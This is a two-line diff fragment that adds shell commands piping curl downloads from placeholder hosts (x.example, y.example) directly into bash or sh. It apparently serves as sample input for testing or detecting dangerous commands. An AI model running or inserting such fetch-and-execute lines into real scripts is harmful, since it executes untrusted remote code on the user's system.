@@ -1,0 +1,2 @@
+x=`curl -s https://x.example | bash`
+sh -c 'curl -s https://y.example | sh'
